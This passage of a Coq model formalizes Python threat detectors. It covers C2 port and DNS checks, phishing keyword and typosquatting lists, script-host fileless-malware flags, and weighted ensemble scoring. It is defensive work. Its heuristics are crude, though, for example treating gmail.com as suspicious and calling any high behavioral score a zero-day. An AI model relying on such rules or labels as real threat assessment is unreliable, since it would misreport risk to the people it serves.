          ("threat_types", VList threat_types);
          ("threat_level", VStr threat_level);
          ("overall_risk_score", VNum (Num.min 10.0 (Num.mul risk_score 10)));
          ("timestamp", VStr (now_isoformat w));
          ("analysis_summary",
           VDict [ ("tls_hosts_analyzed", VNum (Num.of_nat n_hosts));
                   ("dns_queries_analyzed", VNum (Num.of_nat n_queries));
                   ("connections_analyzed", VNum (Num.of_nat n_conns)) ]) ])
    (fun e =>
       [ ("threats_detected", VList []);
         ("threat_types", VList []);
         ("threat_level", VStr "error");
         ("overall_risk_score", VNum 0.0);
         ("timestamp", VStr (now_isoformat w));
         ("error", VStr (str_exn e)) ]).

(** [str(x)], as an f-string formats an object. *)
Variable str_value : value -> string.

(** [if isinstance(conn, dict) and "port" in conn: if conn["port"] in
    self.suspicious_ports: ...]; the loop carries [c2_indicators] and
    [risk_score]. *)
Definition c2_port_step (acc : list value * Q) (conn : value) : exc (list value * Q) :=
  match conn with
  | VDict d =>
      if dict_mem d "port" then
        port <- dict_item d "port" ;;
        if in_numbers port suspicious_ports then
          Ok ((fst acc ++ [VStr ("Suspicious port: " ++ str_value port)])%list,
              Num.add (snd acc) 0.3)
        else Ok acc
      else Ok acc
  | _ => Ok acc
  end.

(** Detect command and control communication *)
Definition detect_c2_communication (w : World) (network_data : value) : dict :=
  try_except
    ((* Check for beaconing patterns *)
     connections <- py_get network_data "connections" (VList []) ;;
     n_connections <- py_len connections ;;
     let acc :=
       if Nat.ltb 10 n_connections
       then ([VStr "High connection count"], Num.add 0.0 0.2)
       else ([], 0.0) in
     (* Check for suspicious ports *)
     conns <- py_iter connections ;;
     acc <- foldM c2_port_step conns acc ;;
     (* Check for data exfiltration patterns *)
     dns_queries <- py_get network_data "dns_queries" (VList []) ;;
     n_queries <- py_len dns_queries ;;
     let '(c2_indicators, risk_score) :=
       if Nat.ltb 20 n_queries
       then ((fst acc ++ [VStr "High DNS query count"])%list, Num.add (snd acc) 0.2)
       else acc in
     Ok [ ("c2_detected", VBool (Nat.ltb 0 (List.length c2_indicators)));
          ("indicators", VList c2_indicators);
          ("risk_score", VNum (Num.min 10.0 (Num.mul risk_score 10)));
          ("timestamp", VStr (now_isoformat w)) ])
    (fun e =>
       [ ("c2_detected", VBool false);
         ("indicators", VList []);
         ("risk_score", VNum 0.0);
         ("timestamp", VStr (now_isoformat w));
         ("error", VStr (str_exn e)) ]).

End WithLibraries.
End EncryptedThreatDetector.

(** ** social_engineering_detector_simple.py *)

Module SocialEngineeringDetector.

Definition urgency_keywords : list string :=
  [ "urgent"; "immediately"; "asap"; "expires"; "limited time";
    "act now"; "don't wait"; "last chance"; "final notice" ].

Definition authority_keywords : list string :=
  [ "bank"; "paypal"; "amazon"; "microsoft"; "apple"; "google";
    "irs"; "fbi"; "police"; "court"; "legal"; "official" ].

Definition suspicious_urls : list string :=
  [ "bit.ly"; "tinyurl.com"; "goo.gl"; "t.co"; "short.link" ].

Definition phishing_indicators : list string :=
  [ "verify account"; "update information"; "suspended account";
    "security breach"; "unusual activity"; "click here" ].

(** [sum(1 for x in l if f(x))] *)
Definition count_if (f : string -> bool) (l : list string) : nat :=
  List.length (filter f l).

(** [s.endswith(suffix)] *)
Definition endswith (s suffix : string) : bool :=
  let n := String.length s in
  let k := String.length suffix in
  Nat.leb k n && String.eqb (String.substring (n - k) k s) suffix.

(** Check if domain is suspicious *)
Definition _is_suspicious_domain (domain : string) : bool :=
  existsb (String.eqb domain) [ "gmail.com"; "yahoo.com"; "hotmail.com"; "outlook.com" ].

(** Simple typosquatting detection *)
Definition _is_typosquatting (url : value) : exc bool :=
  url_lower <- py_lower url ;;
  Ok (existsb (fun pattern => contains pattern url_lower)
              [ "goog1e"; "amaz0n"; "paypa1"; "micr0soft"; "app1e" ]).

(** [risk_score] and [indicators] after one check. *)
Definition note (fired : bool) (indicator : string) (increment : Binary64.float)
           (acc : Binary64.float * list value) : Binary64.float * list value :=
  if fired
  then (Binary64.add (fst acc) increment, (snd acc ++ [VStr indicator])%list)
  else acc.

Definition risk_level_of (risk_score : Binary64.float) : string :=
  if Binary64.ltb (Binary64.of_Q 0.6) risk_score then "high"
  else if Binary64.ltb (Binary64.of_Q 0.3) risk_score then "medium"
  else "low".

Definition analysis_error (e : exn) : dict :=
  [ ("suspicious", VBool false);
    ("risk_score", VNum 0.0);
    ("risk_level", VStr "error");
    ("error", VStr (str_exn e)) ].

Definition text_checks (urgency_count authority_count phishing_count : nat)
           (acc : Binary64.float * list value) : Binary64.float * list value :=
  let acc :=
    note (Nat.ltb 0 urgency_count)
         ("Urgency detected (" ++ str_Z (Z.of_nat urgency_count) ++ " keywords)")
         (Binary64.of_Q 0.2) acc in
  let acc :=
    note (Nat.ltb 0 authority_count)
         ("Authority claimed (" ++ str_Z (Z.of_nat authority_count) ++ " keywords)")
         (Binary64.of_Q 0.2) acc in
  note (Nat.ltb 0 phishing_count)
       ("Phishing indicators (" ++ str_Z (Z.of_nat phishing_count) ++ " found)")
       (Binary64.of_Q 0.3) acc.

(** Analyze email for social engineering indicators *)
Definition _analyze_email (email_data : value) : dict :=
  try_except
    (content <- py_get email_data "content" (VStr "") ;;
     content <- py_lower content ;;
     subject <- py_get email_data "subject" (VStr "") ;;
     subject <- py_lower subject ;;
     sender <- py_get email_data "sender" (VStr "") ;;
     sender <- py_lower sender ;;
     let urgency_count :=
       count_if (fun keyword => contains keyword content || contains keyword subject)
                urgency_keywords in
     let authority_count :=
       count_if (fun keyword => contains keyword content || contains keyword subject)
                authority_keywords in
     let phishing_count :=
       count_if (fun indicator => contains indicator content) phishing_indicators in
     let acc :=
       text_checks urgency_count authority_count phishing_count
                   (Binary64.of_Q 0.0, []) in
     (* Check sender domain *)
     acc <- (if contains "@" sender then
               domain <- list_item (split_on "@" sender) 1 ;;
               Ok (note (_is_suspicious_domain domain) "Suspicious sender domain"
                        (Binary64.of_Q 0.2) acc)
             else Ok acc) ;;
     let '(risk_score, indicators) := acc in
     Ok [ ("suspicious", VBool (Binary64.ltb (Binary64.of_Q 0.3) risk_score));
          ("risk_score", VNum (Binary64.to_Q risk_score));
          ("risk_level", VStr (risk_level_of risk_score));
          ("indicators", VList indicators);
          ("urgency_score", VNum (Num.of_nat urgency_count));
          ("authority_score", VNum (Num.of_nat authority_count));
          ("phishing_score", VNum (Num.of_nat phishing_count)) ])
    analysis_error.

(** Analyze URL for social engineering indicators *)
Definition _analyze_url (url : value) : dict :=
  try_except
    (url_lower <- py_lower url ;;
     (* Check for shortened URLs *)
     let acc :=
       note (existsb (fun shortener => contains shortener url_lower) suspicious_urls)
            "Shortened URL detected" (Binary64.of_Q 0.3) (Binary64.of_Q 0.0, []) in
     (* Check for typosquatting patterns *)
     typo <- _is_typosquatting url ;;
     let acc := note typo "Possible typosquatting" (Binary64.of_Q 0.4) acc in
     (* Check for suspicious TLD *)
     let acc :=
       note (existsb (endswith url_lower) [".tk"; ".ml"; ".ga"; ".cf"])
            "Suspicious TLD" (Binary64.of_Q 0.2) acc in
     let '(risk_score, indicators) := acc in
     Ok [ ("suspicious", VBool (Binary64.ltb (Binary64.of_Q 0.3) risk_score));
          ("risk_score", VNum (Binary64.to_Q risk_score));
          ("risk_level", VStr (risk_level_of risk_score));
          ("indicators", VList indicators);
          ("url", url) ])
    analysis_error.

(** Analyze general content for social engineering *)
Definition _analyze_content (content : value) : dict :=
  try_except
    (content_lower <- py_lower content ;;
     let urgency_count :=
       count_if (fun keyword => contains keyword content_lower) urgency_keywords in
     let authority_count :=
       count_if (fun keyword => contains keyword content_lower) authority_keywords in
     let phishing_count :=
       count_if (fun indicator => contains indicator content_lower) phishing_indicators in
     let '(risk_score, indicators) :=
       text_checks urgency_count authority_count phishing_count
                   (Binary64.of_Q 0.0, []) in
     Ok [ ("suspicious", VBool (Binary64.ltb (Binary64.of_Q 0.3) risk_score));
          ("risk_score", VNum (Binary64.to_Q risk_score));
          ("risk_level", VStr (risk_level_of risk_score));
          ("indicators", VList indicators);
          ("urgency_score", VNum (Num.of_nat urgency_count));
          ("authority_score", VNum (Num.of_nat authority_count));
          ("phishing_score", VNum (Num.of_nat phishing_count)) ])
    analysis_error.

(** [threats_detected], [threat_types] and [risk_score]. *)
Definition state : Type := (list value * list value * Q)%type.

(** [if result["suspicious"]: ... risk_score += result["risk_score"]] *)
Definition record (type : string) (result : dict) (st : state) : exc state :=
  suspicious <- dict_item result "suspicious" ;;
  if truthy suspicious then
    risk_level <- dict_item result "risk_level" ;;
    score <- dict_item result "risk_score" ;;
    score <- as_number score ;;
    let '(threats_detected, threat_types, risk_score) := st in
    Ok ((threats_detected
           ++ [ VDict [ ("type", VStr type);
                        ("details", VDict result);
                        ("risk_level", risk_level) ] ])%list,
        (threat_types ++ [VStr type])%list,
        Num.add risk_score score)
  else Ok st.

(** Comprehensive social engineering detection *)
Definition detect_social_engineering (w : World) (data : value) : dict :=
  try_except
    ((* Analyze email content *)
     email_data <- py_get data "email" (VDict []) ;;
     st <- (if truthy email_data
            then record "Suspicious Email" (_analyze_email email_data) ([], [], 0.0)
            else Ok ([], [], 0.0)) ;;
     (* Analyze URLs *)
     urls <- py_get data "urls" (VList []) ;;
     url_list <- py_iter urls ;;
     st <- foldM (fun st url => record "Suspicious URL" (_analyze_url url) st)
                 url_list st ;;
     (* Analyze general content *)
     content <- py_get data "content" (VStr "") ;;
     st <- (if truthy content
            then record "Suspicious Content" (_analyze_content content) st
            else Ok st) ;;
     let '(threats_detected, threat_types, risk_score) := st in
     (* Determine overall threat level *)
     let threat_level :=
       if Num.geb risk_score 0.6 then "high"
       else if Num.geb risk_score 0.3 then "medium"
       else "low" in
     n_urls <- py_len urls ;;
     Ok [ ("threats_detected", VList threats_detected);
          ("threat_types", VList threat_types);
          ("threat_level", VStr threat_level);
          ("overall_risk_score", VNum (Num.min 10.0 (Num.mul risk_score 10)));
          ("timestamp", VStr (now_isoformat w));
          ("analysis_summary",
           VDict [ ("email_analyzed", VBool (truthy email_data));
                   ("urls_analyzed", VNum (Num.of_nat n_urls));
                   ("content_analyzed", VBool (truthy content)) ]) ])
    (fun e =>
       [ ("threats_detected", VList []);
         ("threat_types", VList []);
         ("threat_level", VStr "error");
         ("overall_risk_score", VNum 0.0);
         ("timestamp", VStr (now_isoformat w));
         ("error", VStr (str_exn e)) ]).

End SocialEngineeringDetector.

(** ** ensemble_detector_simple.py *)

(** The body of a [try] that updates the [results] dict in place: the
    updates made before a [raise] are still there when the handler runs. *)
Definition M (A : Type) : Type := dict -> exc A * dict.

Definition ret {A} (a : A) : M A := fun s => (Ok a, s).

Definition bindM {A B} (c : M A) (k : A -> M B) : M B :=
  fun s =>
    match c s with
    | (Ok a, s') => k a s'
    | (Raise e, s') => (Raise e, s')
    end.

Definition lift {A} (c : exc A) : M A := fun s => (c, s).

Definition get_results : M dict := fun s => (Ok s, s).

Definition put_results (s : dict) : M unit := fun _ => (Ok tt, s).

Definition try_exceptM (body : M unit) (handler : exn -> M unit) : M unit :=
  fun s =>
    match body s with
    | (Ok a, s') => (Ok a, s')
    | (Raise e, s') => handler e s'
    end.

Declare Scope M_scope.
Delimit Scope M_scope with M.
Notation "x <- c ;; k" := (bindM c (fun x => k))
  (at level 61, c at next level, right associativity) : M_scope.
Notation "c ;; k" := (bindM c (fun _ => k))
  (at level 61, right associativity) : M_scope.

(** [results[field][name] = v] *)
Definition set_item_in (field name : string) (v : value) : M unit :=
  (results <- get_results ;;
   inner <- lift (dict_item results field) ;;
   match inner with
   | VDict d => put_results (dict_set results field (VDict (dict_set d name v)))
   | _ => lift (Raise (TypeError "object does not support item assignment"))
   end)%M.

(** [results[field].extend(items)] *)
Definition extend_in (field : string) (items : list value) : M unit :=
  (results <- get_results ;;
   inner <- lift (dict_item results field) ;;
   match inner with
   | VList l => put_results (dict_set results field (VList (l ++ items)))
   | _ => lift (Raise (AttributeError "object has no attribute 'extend'"))
   end)%M.

(** [results[field].append(item)] *)
Definition append_in (field : string) (item : value) : M unit :=
  extend_in field [item].

(** The five detection modules of the coordinator, each by the method the
    coordinator calls.  A module returns a dict or raises. *)
Record Detectors : Type := {
  signature_detector : World -> value -> exc dict;
  file_analyzer : World -> value -> exc dict;
  behavioral_collect : World -> exc dict;
  behavioral_analyze : World -> dict -> exc dict;
  encrypted_detector : World -> value -> exc dict;
  social_engineering_detector : World -> value -> exc dict
}.

Definition weights : Type := list (string * Q).

Record EnhancedThreatDetector : Type := {
  detectors : Detectors;
  detection_weights : weights
}.

Definition default_weights : weights :=
  [ ("signature", 0.25);
    ("file_analysis", 0.20);
    ("behavioral", 0.20);
    ("encrypted", 0.15);
    ("social_engineering", 0.20) ].

(** [__init__] *)
Definition init (d : Detectors) : EnhancedThreatDetector :=
  {| detectors := d; detection_weights := default_weights |}.

Definition error_result (e : exn) : value :=
  VDict [ ("error", VStr (str_exn e)) ].

Definition threat_record (type : string) (details : dict) (module : string) : value :=
  VDict [ ("type", VStr type); ("details", VDict details); ("module", VStr module) ].

(** Run signature detection if file path provided *)
Definition run_signature (self : EnhancedThreatDetector) (w : World) (data : dict)
  : M unit :=
  if dict_mem data "file_path" then
    try_exceptM
      (file_path <- lift (dict_item data "file_path") ;;
       sig_result <- lift (signature_detector (detectors self) w file_path) ;;
       set_item_in "module_results" "signature" (VDict sig_result) ;;
       if truthy (dict_get_none sig_result "detected") then
         append_in "threats_detected"
                   (threat_record "Signature Match" sig_result "signature") ;;
         append_in "threat_types" (VStr "Signature Match")
       else ret tt)%M
      (fun e => set_item_in "module_results" "signature" (error_result e))
  else ret tt.

(** Run file analysis if file path provided *)
Definition run_file_analysis (self : EnhancedThreatDetector) (w : World) (data : dict)
  : M unit :=
  if dict_mem data "file_path" then
    try_exceptM
      (file_path <- lift (dict_item data "file_path") ;;
       file_result <- lift (file_analyzer (detectors self) w file_path) ;;
       set_item_in "module_results" "file_analysis" (VDict file_result) ;;
       if in_strings (dict_get_none file_result "prediction") ["malicious"; "suspicious"]
       then
         append_in "threats_detected"
                   (threat_record "File-based Threat" file_result "file_analysis") ;;
         append_in "threat_types" (VStr "File-based Threat")
       else ret tt)%M
      (fun e => set_item_in "module_results" "file_analysis" (error_result e))
  else ret tt.

(** The end of the last three blocks: the module's own threat records and
    threat types are added to those of the request. *)
Definition merge_threats (module_result : dict) : M unit :=
  if truthy (dict_get_none module_result "threats_detected") then
    (found <- lift (dict_item module_result "threats_detected") ;;
     items <- lift (py_iter found) ;;
     extend_in "threats_detected" items ;;
     types <- lift (py_iter (dict_get_default module_result "threat_types" (VList []))) ;;
     extend_in "threat_types" types)%M
  else ret tt.

(** Run behavioral analysis if system data provided *)
Definition run_behavioral (self : EnhancedThreatDetector) (w : World) (data : dict)
  : M unit :=
  if dict_mem data "system_data" then
    try_exceptM
      (behavioral_data <- lift (behavioral_collect (detectors self) w) ;;
       behavioral_result <- lift (behavioral_analyze (detectors self) w behavioral_data) ;;
       set_item_in "module_results" "behavioral" (VDict behavioral_result) ;;
       merge_threats behavioral_result)%M
      (fun e => set_item_in "module_results" "behavioral" (error_result e))
  else ret tt.

(** Run encrypted threat detection if network data provided *)
Definition run_encrypted (self : EnhancedThreatDetector) (w : World) (data : dict)
  : M unit :=
  if dict_mem data "network_data" then
    try_exceptM
      (network_data <- lift (dict_item data "network_data") ;;
       encrypted_result <- lift (encrypted_detector (detectors self) w network_data) ;;
       set_item_in "module_results" "encrypted" (VDict encrypted_result) ;;
       merge_threats encrypted_result)%M
      (fun e => set_item_in "module_results" "encrypted" (error_result e))
  else ret tt.

(** Run social engineering detection if communication data provided *)
Definition run_social_engineering (self : EnhancedThreatDetector) (w : World)
           (data : dict) : M unit :=
  if dict_mem data "communication_data" then
    try_exceptM
      (communication_data <- lift (dict_item data "communication_data") ;;
       se_result <-
         lift (social_engineering_detector (detectors self) w communication_data) ;;
       set_item_in "module_results" "social_engineering" (VDict se_result) ;;
       merge_threats se_result)%M
      (fun e => set_item_in "module_results" "social_engineering" (error_result e))
  else ret tt.

(** The body of the loop over [self.detection_weights.items()]: the totals
    [(total_risk_score, total_confidence)] after one module.  The totals
    are exact here; [Rounded.ensemble_step] has them as floats. *)
Definition ensemble_step (results : dict) (totals : Q * Q) (item : string * Q)
  : exc (Q * Q) :=
  let '(total_risk_score, total_confidence) := totals in
  let '(module_name, weight) := item in
  module_results <- dict_item results "module_results" ;;
  module_result <- py_get module_results module_name (VDict []) ;;
  has_error <- py_in "error" module_result ;;
  if negb has_error then
    if String.eqb module_name "signature" then
      detected <- py_get module_result "detected" VNone ;;
      if truthy detected then
        c <- py_get module_result "confidence" (VNum 0.0) ;;
        c <- as_number c ;;
        Ok (Num.add total_risk_score (Num.mul (Num.mul weight c) 10),
            Num.add total_confidence (Num.mul weight c))
      else Ok totals
    else if String.eqb module_name "file_analysis" then
      prediction <- py_get module_result "prediction" VNone ;;
      if in_strings prediction ["malicious"; "suspicious"] then
        c <- py_get module_result "confidence" (VNum 0.0) ;;
        c <- as_number c ;;
        Ok (Num.add total_risk_score (Num.mul (Num.mul weight c) 10),
            Num.add total_confidence (Num.mul weight c))
      else Ok totals
    else if existsb (String.eqb module_name)
                    ["behavioral"; "encrypted"; "social_engineering"] then
      r <- py_get module_result "overall_risk_score" (VNum 0.0) ;;
      risk_score <- as_number r ;;
      Ok (Num.add total_risk_score (Num.mul weight risk_score),
          Num.add total_confidence (Num.mul weight (Num.div risk_score 10.0)))
    else Ok totals
  else Ok totals.

(** The decision on exact totals: the scores it reports are those of the
    code up to rounding, and so is the threat level unless a total comes
    within rounding of 4.0 or of 7.0 or leaves the range of the floats.
    [Rounded._calculate_ensemble_decision] is the decision on floats. *)
Definition _calculate_ensemble_decision (self : EnhancedThreatDetector) (results : dict)
  : dict :=
  try_except
    (threats <- dict_item results "threats_detected" ;;
     threat_count <- py_len threats ;;
     totals <- foldM (ensemble_step results) (detection_weights self) (0.0, 0.0) ;;
     let '(total_risk_score, total_confidence) := totals in
     (* Determine threat level *)
     let threat_level :=
       if Num.geb total_risk_score 7.0 then "high"
       else if Num.geb total_risk_score 4.0 then "medium"
       else "low" in
     (* Calculate final confidence *)
     let final_confidence := Num.min 1.0 total_confidence in
     Ok [ ("overall_risk_score", VNum (Num.min 10.0 total_risk_score));
          ("threat_level", VStr threat_level);
          ("confidence", VNum final_confidence);
          ("threat_count", VNum (Num.of_nat threat_count)) ])
    (fun e =>
       [ ("overall_risk_score", VNum 0.0);
         ("threat_level", VStr "error");
         ("confidence", VNum 0.0);
         ("threat_count", VNum 0);
         ("error", VStr (str_exn e)) ]).

(** [d.update(other)] *)
Definition dict_update (d other : dict) : dict :=
  fold_left (fun acc kv => dict_set acc (fst kv) (snd kv)) other d.

Definition initial_results (w : World) : dict :=
  [ ("timestamp", VStr (now_isoformat w));
    ("threats_detected", VList []);
    ("threat_types", VList []);
    ("overall_risk_score", VNum 0.0);
    ("threat_level", VStr "low");
    ("confidence", VNum 0.0);
    ("module_results", VDict []) ].

(** The five blocks of [detect_threats], in order. *)
Definition run_modules (self : EnhancedThreatDetector) (w : World) (data : dict)
  : M unit :=
  (run_signature self w data ;;
   run_file_analysis self w data ;;
   run_behavioral self w data ;;
   run_encrypted self w data ;;
   run_social_engineering self w data)%M.

Definition detect_threats (self : EnhancedThreatDetector) (w : World) (data : dict)
  : dict :=
  try_except
    (match run_modules self w data (initial_results w) with
     | (Raise e, _) => Raise e
     | (Ok _, results) =>
         (* Calculate ensemble decision *)
         let ensemble_decision := _calculate_ensemble_decision self results in
         Ok (dict_update results ensemble_decision)
     end)
    (fun e =>
       [ ("timestamp", VStr (now_isoformat w));
         ("threats_detected", VList []);
         ("threat_types", VList []);
         ("overall_risk_score", VNum 0.0);
         ("threat_level", VStr "error");
         ("confidence", VNum 0.0);
         ("error", VStr (str_exn e)) ]).

(** [sum(values)] on exact numbers: it raises on a value that is not a
    number.  [Rounded.sum] also has the rounding of a float sum and the
    [OverflowError] of an int that no float can hold. *)
Definition sum_values (values : list value) : exc Q :=
  foldM (fun total v => n <- as_number v ;; Ok (Num.add total n)) values 0.

(** Update detection module weights.  The handler prints the error and
    leaves [self.detection_weights] as it was.  The weights are exact
    here; [Rounded.update_detection_weights] stores floats. *)
Definition update_detection_weights (self : EnhancedThreatDetector) (new_weights : dict)
  : EnhancedThreatDetector :=
  try_except
    ((* Normalize weights *)
     total_weight <- sum_values (map snd new_weights) ;;
     if Num.gtb total_weight 0 then
       normalized <-
         mapM (fun kv => v <- as_number (snd kv) ;;
                         Ok (fst kv, Num.div v total_weight))
              new_weights ;;
       Ok {| detectors := detectors self; detection_weights := normalized |}
     else
       (* Reset to default weights *)
       Ok {| detectors := detectors self; detection_weights := default_weights |})
    (fun _ => self).

(** [v == s] for a string literal [s]. *)
Definition is_string (v : value) (s : string) : bool :=
  match v with
  | VStr s' => String.eqb s' s
  | _ => false
  end.

Definition script_hosts : list string :=
  [ "powershell.exe"; "wscript.exe"; "cscript.exe" ].

(** The loop of the fileless-malware check over the collected processes;
    it carries [advanced_threats]. *)
Definition fileless_step (advanced_threats : list value) (proc : value)
  : exc (list value) :=
  name <- py_get proc "name" (VStr "") ;;
  lname <- py_lower name ;;
  if existsb (String.eqb lname) script_hosts then
    name' <- py_item proc "name" ;;
    cmdline <- py_get proc "cmdline" (VList []) ;;
    Ok (advanced_threats
          ++ [ VDict [ ("type", VStr "Fileless Malware");
                       ("confidence", VNum 0.6);
                       ("indicators",
                        VList [ VDict [ ("process", name');
                                        ("cmdline", cmdline) ] ]) ] ])%list
  else Ok advanced_threats.

(** Detect advanced threats using specialized methods *)
Definition detect_advanced_threats (self : EnhancedThreatDetector) (w : World)
           (data : dict) : dict :=
  try_except
    ((* Check for zero-day indicators *)
     advanced_threats <-
       (if dict_mem data "system_data" then
          behavioral_data <- behavioral_collect (detectors self) w ;;
          behavioral_result <- behavioral_analyze (detectors self) w behavioral_data ;;
          if is_string (dict_get_none behavioral_result "threat_level") "high" then
            Ok [ VDict [ ("type", VStr "Zero-day Exploit");
                         ("confidence", VNum 0.7);
                         ("indicators",
                          dict_get_default behavioral_result "threats_detected"
                                           (VList [])) ] ]
          else Ok []
        else Ok []) ;;
     (* Check for fileless malware *)
     advanced_threats <-
       (if dict_mem data "system_data" then
          behavioral_data <- behavioral_collect (detectors self) w ;;
          procs <- py_iter (dict_get_default behavioral_data "processes" (VList [])) ;;
          foldM fileless_step procs advanced_threats
        else Ok advanced_threats) ;;
     (* Check for encrypted threats *)
     advanced_threats <-
       (if dict_mem data "network_data" then
          network_data <- dict_item data "network_data" ;;
          encrypted_result <- encrypted_detector (detectors self) w network_data ;;
          if is_string (dict_get_none encrypted_result "threat_level") "high" then
            Ok (advanced_threats
                  ++ [ VDict [ ("type", VStr "Encrypted Malware");
                               ("confidence", VNum 0.8);
                               ("indicators",
                                dict_get_default encrypted_result "threats_detected"
                                                 (VList [])) ] ])%list
          else Ok advanced_threats
        else Ok advanced_threats) ;;
     Ok [ ("advanced_threats", VList advanced_threats);
          ("timestamp", VStr (now_isoformat w));
          ("threat_count", VNum (Num.of_nat (List.length advanced_threats))) ])
    (fun e =>
       [ ("advanced_threats", VList []);
         ("timestamp", VStr (now_isoformat w));
         ("threat_count", VNum 0);
         ("error", VStr (str_exn e)) ]).

(** ** ensemble_detector_simple.py, with the rounding of its arithmetic

    The totals of [_calculate_ensemble_decision] and the weights that
    [update_detection_weights] stores are Python floats.  The definitions
    above compute them as exact rationals, which is what the code computes
    up to the rounding of each value; the definitions of this module
    compute them as the interpreter does, in binary64, with the
    [OverflowError] of an int that no float can hold.  The five blocks of
    [detect_threats] do no arithmetic and are the ones above. *)

Module Rounded.

(** A value of a verdict or of a weight map: a float with its bits, or any
    other object.  Among the other objects a [VNum] is an int when it is
    whole and the float of a decimal literal when it is not. *)
Inductive obj : Type :=
| Obj (v : value)
| Flt (f : Binary64.float).

Definition fields : Type := list (string * obj).

Fixpoint get (d : fields) (k : string) : option obj :=
  match d with
  | [] => None
  | (k', v) :: d' => if String.eqb k k' then Some v else get d' k
  end.

(** [d[k] = v] *)
Fixpoint set (d : fields) (k : string) (v : obj) : fields :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: d' =>
      if String.eqb k k' then (k, v) :: d' else (k', v') :: set d' k v
  end.

(** [d.update(other)] *)
Definition update (d other : fields) : fields :=
  fold_left (fun acc kv => set acc (fst kv) (snd kv)) other d.

Definition of_dict (d : dict) : fields :=
  map (fun kv => (fst kv, Obj (snd kv))) d.

(** A Python number: an int of any size, or a float. *)
Inductive number : Type :=
| Int (z : Z)
| Float (f : Binary64.float).

(** The conversion that arithmetic with a float applies to an int. *)
Definition float_of_int (z : Z) : exc Binary64.float :=
  let f := Binary64.of_Q (inject_Z z) in
  if Binary64.is_finite f then Ok f
  else Raise (OverflowError "int too large to convert to float").

Definition to_float (n : number) : exc Binary64.float :=
  match n with
  | Int z => float_of_int z
  | Float f => Ok f
  end.

(** The number an object stands for in arithmetic ([bool] is a subtype of
    [int]); anything else is a [TypeError]. *)
Definition as_number (o : obj) : exc number :=
  match o with
  | Flt f => Ok (Float f)
  | Obj (VBool b) => Ok (Int (if b then 1 else 0))
  | Obj (VNum q) =>
      let q' := Qred q in
      if Pos.eqb (Qden q') 1 then Ok (Int (Qnum q'))
      else Ok (Float (Binary64.of_Q q'))
  | Obj _ => Raise (TypeError "unsupported operand type(s)")
  end.

(** The float that [weight * v] and [v / 10.0] read from a value [v] of a
    module result. *)
Definition as_float (v : value) : exc Binary64.float :=
  n <- as_number (Obj v) ;;
  to_float n.

(** [a + b]: exact on two ints, rounded as soon as one side is a float. *)
Definition number_add (a b : number) : exc number :=
  match a, b with
  | Int x, Int y => Ok (Int (x + y))
  | _, _ =>
      x <- to_float a ;;
      y <- to_float b ;;
      Ok (Float (Binary64.add x y))
  end.

Definition is_zero (f : Binary64.float) : bool :=
  match f with S754_zero _ => true | _ => false end.

(** [a / b]: the correctly rounded quotient of two ints, the quotient of
    two floats otherwise. *)
Definition true_div (a b : number) : exc Binary64.float :=
  match a, b with
  | Int x, Int y =>
      if Z.eqb y 0 then Raise (ZeroDivisionError "division by zero")
      else
        let f := Binary64.div (Binary64.raw x) (Binary64.raw y) in
        if Binary64.is_finite f then Ok f
        else Raise (OverflowError "integer division result too large for a float")
  | _, _ =>
      x <- to_float a ;;
      y <- to_float b ;;
      if is_zero y then Raise (ZeroDivisionError "float division by zero")
      else Ok (Binary64.div x y)
  end.

(** [n > 0] *)
Definition positive (n : number) : bool :=
  match n with
  | Int z => Z.ltb 0 z
  | Float f => Binary64.ltb (Binary64.of_Q 0) f
  end.

(** [sum(values)]: from the int [0], one addition per item, left to
    right.  (From version 3.12 on CPython keeps a correction term beside
    a total of floats and adds it at the end when it is finite: the total
    then differs from this one by the rounding errors recovered, and is
    infinite when this one is.) *)
Definition sum (values : list obj) : exc number :=
  foldM (fun total o => n <- as_number o ;; number_add total n) values (Int 0).

Definition weights : Type := list (string * Binary64.float).

(** The coordinator above with the same detectors: the five blocks of
    [detect_threats] read nothing else of it. *)
Definition blocks_of (d : Detectors) : EnhancedThreatDetector :=
  {| detectors := d; detection_weights := [] |}.

Record EnhancedThreatDetector : Type := {
  detectors : Detectors;
  detection_weights : weights
}.

Definition default_weights : weights :=
  [ ("signature", Binary64.of_Q 0.25);
    ("file_analysis", Binary64.of_Q 0.20);
    ("behavioral", Binary64.of_Q 0.20);
    ("encrypted", Binary64.of_Q 0.15);
    ("social_engineering", Binary64.of_Q 0.20) ].

(** [__init__] *)
Definition init (d : Detectors) : EnhancedThreatDetector :=
  {| detectors := d; detection_weights := default_weights |}.

(** The body of the loop over [self.detection_weights.items()]: the totals
    [(total_risk_score, total_confidence)] after one module. *)
Definition ensemble_step (results : dict) (totals : Binary64.float * Binary64.float)
           (item : string * Binary64.float)
  : exc (Binary64.float * Binary64.float) :=
  let '(total_risk_score, total_confidence) := totals in
  let '(module_name, weight) := item in
  module_results <- dict_item results "module_results" ;;
  module_result <- py_get module_results module_name (VDict []) ;;
  has_error <- py_in "error" module_result ;;
  if negb has_error then
    if String.eqb module_name "signature" then
      detected <- py_get module_result "detected" VNone ;;
      if truthy detected then
        c <- py_get module_result "confidence" (VNum 0.0) ;;
        c <- as_float c ;;
        Ok (Binary64.add total_risk_score
              (Binary64.mul (Binary64.mul weight c) (Binary64.of_Q 10)),
            Binary64.add total_confidence (Binary64.mul weight c))
      else Ok totals
    else if String.eqb module_name "file_analysis" then
      prediction <- py_get module_result "prediction" VNone ;;
      if in_strings prediction ["malicious"; "suspicious"] then
        c <- py_get module_result "confidence" (VNum 0.0) ;;
        c <- as_float c ;;
        Ok (Binary64.add total_risk_score
              (Binary64.mul (Binary64.mul weight c) (Binary64.of_Q 10)),
            Binary64.add total_confidence (Binary64.mul weight c))
      else Ok totals
    else if existsb (String.eqb module_name)
                    ["behavioral"; "encrypted"; "social_engineering"] then
      r <- py_get module_result "overall_risk_score" (VNum 0.0) ;;
      risk_score <- as_float r ;;
      Ok (Binary64.add total_risk_score (Binary64.mul weight risk_score),
          Binary64.add total_confidence
            (Binary64.mul weight (Binary64.div risk_score (Binary64.of_Q 10.0))))
    else Ok totals
  else Ok totals.

Definition _calculate_ensemble_decision (self : EnhancedThreatDetector) (results : dict)
  : fields :=
  try_except
    (threats <- dict_item results "threats_detected" ;;
     threat_count <- py_len threats ;;
     totals <- foldM (ensemble_step results) (detection_weights self)
                     (Binary64.of_Q 0.0, Binary64.of_Q 0.0) ;;
     let '(total_risk_score, total_confidence) := totals in
     (* Determine threat level *)
     let threat_level :=
       if Binary64.leb (Binary64.of_Q 7.0) total_risk_score then "high"
       else if Binary64.leb (Binary64.of_Q 4.0) total_risk_score then "medium"
       else "low" in
     (* Calculate final confidence *)
